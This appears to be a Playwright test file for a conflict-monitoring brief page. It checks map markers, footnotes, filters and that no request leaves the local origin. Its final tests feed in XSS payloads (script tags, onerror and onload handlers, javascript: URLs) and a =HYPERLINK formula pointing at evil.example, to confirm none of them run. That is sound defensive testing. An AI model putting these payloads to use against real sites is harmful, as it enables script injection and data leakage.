"""brief.html and the served page in a real browser (Debian's Chromium driven by playwright).

Each test records every request, console error and dialog of the page and
fails if a request leaves file:// or 127.0.0.1, if anything is logged as an
error, or if a dialog opens. Screenshots go to tests/artifacts/.
"""
from __future__ import annotations

import json
import re

import pytest

from fixtures_browser import LiveServer, make_document, sample_documents, sample_picture, sample_shapes, span_of
from frontwatch.records import Claim, Dispute, Event, Picture
from frontwatch.report import render_brief, write_brief
from frontwatch.serve import create_app
from frontwatch.settings import Settings

UNKNOWN = "#d5d8dc"          # palette.json: a place with no control report on the chosen day


def open_brief(page, url: str) -> dict:
    page.goto(url)
    page.wait_for_function("document.documentElement.dataset.ready === '1'", timeout=15_000)
    return json.loads(page.locator("#fw-data").text_content())


def place_fills(page) -> list[str]:
    return page.eval_on_selector_all("path.fw-place", "els => els.map(e => e.getAttribute('fill'))")


def assert_clean(log, origin: str) -> None:
    assert log.errors == [], log.errors
    assert log.dialogs == [], log.dialogs
    assert log.foreign_requests() == [], log.foreign_requests()
    assert all(u.startswith(origin) for u in log.requests), log.requests


def check_footnote(page, data: dict, button) -> str:
    ref = button.get_attribute("data-ref")
    button.click()
    mark = page.locator("#evidence mark")
    mark.wait_for(state="visible")
    assert mark.text_content() == data["evidence"][ref]["text"]
    doc = data["documents"][data["evidence"][ref]["doc"]]
    assert page.locator("#ev-meta").text_content().count(doc.get("outlet") or doc["id"]) >= 1
    page.locator("#ev-close").click()
    return ref


def check_slider_changes_control(page) -> None:
    latest = place_fills(page)
    page.focus("#day")
    page.keyboard.press("Home")                 # the first day of the picture
    earliest = place_fills(page)
    assert earliest != latest
    # a place taken later in the picture has no controller yet on the first day
    assert any(first == UNKNOWN and last != UNKNOWN for first, last in zip(earliest, latest))
    page.keyboard.press("End")
    assert place_fills(page) == latest


@pytest.fixture()
def sample_brief(tmp_path):
    docs = sample_documents()
    path = tmp_path / "brief.html"
    path.write_text(render_brief(docs, sample_picture(docs), shapes=sample_shapes()), encoding="utf-8")
    return path


def test_brief_from_disk(browser_page, sample_brief, artifacts_dir):
    page, log = browser_page
    data = open_brief(page, sample_brief.as_uri())
    assert page.locator(".fw-marker").count() == 4                   # every event has coordinates
    assert page.locator("path.fw-place").count() == 3                # two quarters' shapes + one place point
    assert page.locator("path.fw-place-point").count() == 1
    assert page.locator("path.fw-shape").count() == 1                # the quarter no record names
    assert page.locator("#legend .item").count() == 2 + 1 + 2 + 2    # 2 types, disputed, 2 controllers, partial, none
    assert page.locator(".fw-marker.contested").count() == 1         # the denied capture of Riverside
    assert page.locator(".timeline .tl-event").count() == 4
    assert page.locator(".timeline .tl-control").count() == 3
    assert page.locator(".dispute").count() == 2
    page.screenshot(path=str(artifacts_dir / "brief-sample.png"), full_page=True)
    ref = check_footnote(page, data, page.locator("#sitrep .fn").first)
    page.locator(f'#sitrep .fn[data-ref="{ref}"]').first.click()
    page.screenshot(path=str(artifacts_dir / "brief-sample-evidence.png"))
    page.keyboard.press("Escape")
    assert page.locator("#evidence").is_hidden()
    check_slider_changes_control(page)
    page.locator("path.fw-place").first.click(position={"x": 6, "y": 6})    # Riverside, away from its markers
    riverside = next(c for c in data["control"] if c["place"] == "Riverside")
    assert page.locator("#evidence mark").text_content() == data["evidence"][riverside["refs"][0]]["text"]
    assert_clean(log, "file://")


def test_filters_hide_markers_and_rows(browser_page, sample_brief):
    page, log = browser_page
    open_brief(page, sample_brief.as_uri())
    page.select_option("#f-type", "Explosions/Remote violence")
    assert page.locator(".fw-marker").count() == 1
    assert page.locator("#events-table tbody tr:visible").count() == 1
    assert page.locator("#claims-table tbody tr:visible").count() == 3   # claims have no event type
    page.select_option("#f-type", "")
    page.select_option("#f-source", "Coast Wire")
    assert page.locator("#events-table tbody tr:visible").count() == 1
    assert page.locator("#claims-table tbody tr:visible").count() == 2
    page.click("#f-reset")
    page.fill("#f-from", "2021-12-01")
    page.dispatch_event("#f-from", "change")
    assert page.locator(".fw-marker").count() == 3                   # the clash runs to 1 December
    assert_clean(log, "file://")


def test_a_disputed_figure_links_to_its_dispute(browser_page, sample_brief):
    page, log = browser_page
    open_brief(page, sample_brief.as_uri())
    links = page.locator("#claims-table a.disputed")
    assert links.count() == 2                            # both sides of the Tellbridge figures
    links.first.click()
    assert page.evaluate("location.hash") == "#dispute-dp-fled"
    assert page.locator("#dispute-dp-fled h3").inner_text() == "people displaced in Tellbridge"
    assert page.locator("#events-table a.disputed").count() == 1     # the denied capture
    assert_clean(log, "file://")


def test_served_page(browser_page, sample_db, artifacts_dir):
    page, log = browser_page
    with LiveServer(create_app(sample_db, Settings())) as server:
        data = open_brief(page, server.url + "/")
        assert page.locator(".fw-marker").count() == 4
        assert page.locator("path.fw-place").count() >= 3              # each controlled place is drawn
        check_footnote(page, data, page.locator("#sitrep .fn").first)
        check_slider_changes_control(page)
        page.screenshot(path=str(artifacts_dir / "brief-served.png"), full_page=True)
    assert_clean(log, server.url)


def test_demo_brief_every_sitrep_footnote_opens_its_sentence(browser_page, demo_run, artifacts_dir):
    page, log = browser_page
    data = open_brief(page, demo_run.brief.as_uri())
    located = [e for e in data["events"] if e["lat"] is not None]
    assert page.locator(".fw-marker").count() == len(located) > 0
    assert page.locator("path.fw-place").count() > 0
    assert page.locator("path.fw-shape").count() > 0                  # the gazetteer's other neighbourhoods
    page.screenshot(path=str(artifacts_dir / "brief-demo.png"), full_page=True)
    sentences = page.locator("#sitrep .sentence")
    assert sentences.count() == sum(len(s["sentences"]) for s in data["sitrep"]) > 0
    for i in range(sentences.count()):
        assert sentences.nth(i).locator(".fn").count() >= 1
    buttons = page.locator("#sitrep .fn")
    for i in range(buttons.count()):
        check_footnote(page, data, buttons.nth(i))
    assert_clean(log, "file://")


HOSTILE_TEXT = ('Shelling hit the market <script>window.__pwned = "script"</script> on Friday. '
                '<img src=x onerror="window.__pwned = \'img\'"> Read <a href="javascript:alert(1)">more</a>. '
                '=HYPERLINK("http://evil.example/?leak","click")')


def hostile_brief_inputs():
    text = f"<b>Headline</b>\n{HOSTILE_TEXT}\n"
    doc = make_document("x<svg onload=alert(1)>", text, 'Outlet"><script>alert(2)</script>', "2022-03-02",
                        url="javascript:alert(3)", title="<img src=y onerror=alert(4)>")
    ev = span_of(doc, HOSTILE_TEXT)
    event = Event(event_id="ev-<b>1</b>", event_type="Explosions/Remote violence",
                  sub_event_type="<script>alert(5)</script>", event_date="2022-03-01",
                  location='<img src=z onerror="window.__pwned=\'loc\'">', latitude=48.0, longitude=37.5,
                  actor1="=HYPERLINK(\"http://evil.example\")", sources=["javascript:alert(6)"],
                  outlets=[doc.outlet], independent_sources=1, notes="<script>window.__pwned='notes'</script>",
                  evidence=[ev])
    claim = Claim(claim_id="cl-1", kind="killed", subject="<i>people</i>", low=3, high=3,
                  claimant="<script>alert(7)</script>", outlet=doc.outlet, as_of="2022-03-01", evidence=[ev])
    dispute = Dispute(dispute_id="dp-1", kind="denial", topic="<img src=q onerror=alert(8)>", records=[event.event_id],
                      explanation="javascript:alert(9) <script>window.__pwned='dispute'</script>",
                      sides=[{"stance": "<b>denied</b>", "sources": ["<script>x</script>"], "records": [],
                              "outlets": []}], evidence=[ev])
    return [doc], Picture(events=[event], claims=[claim], disputes=[dispute])


def exercise_hostile_page(page, data) -> None:
    for i in range(page.locator(".fn").count()):
        page.locator(".fn").nth(i).click()
        assert page.locator("#evidence mark").text_content() == HOSTILE_TEXT
        assert page.locator("#ev-meta a").count() == 0                # javascript: never becomes a link
        page.locator("#ev-close").click()
    page.locator(".fw-marker").first.click()
    page.locator(".popup").wait_for()
    assert "<script>window.__pwned='notes'</script>" in page.locator(".popup").text_content()
    page.locator(".popup .fn").first.click()                          # footnotes work inside map popups too
    assert page.locator("#evidence mark").text_content() == HOSTILE_TEXT
    page.locator("#ev-close").click()
    assert page.evaluate("typeof window.__pwned") == "undefined"
    assert page.locator("body script, body img, body iframe").count() == 2   # the data block and the page script
    assert page.locator("a[href^='javascript']").count() == 0


def test_hostile_article_runs_nothing_from_disk(browser_page, tmp_path, artifacts_dir):
    page, log = browser_page
    docs, picture = hostile_brief_inputs()
    path = write_brief(tmp_path, docs, picture)
    data = open_brief(page, path.as_uri())
    exercise_hostile_page(page, data)
    page.screenshot(path=str(artifacts_dir / "brief-hostile.png"), full_page=True)
    assert_clean(log, "file://")


def test_hostile_article_runs_nothing_when_served(browser_page, tmp_path):
    from frontwatch.records import DocRecords
    from frontwatch.store import open_store

    page, log = browser_page
    docs, picture = hostile_brief_inputs()
    db = str(tmp_path / "hostile.db")
    with open_store(db) as store:
        store.add_batch(docs, [DocRecords(d.id) for d in docs])
        store.replace_picture(picture)
    with LiveServer(create_app(db, Settings())) as server:
        data = open_brief(page, server.url + "/")
        exercise_hostile_page(page, data)
        page.goto(server.url + "/events")                                 # the API serves JSON, not a page
        assert page.evaluate("typeof window.__pwned") == "undefined"
        assert re.search(r"<script>alert\(5\)</script>", page.locator("body").text_content())
    assert_clean(log, server.url)
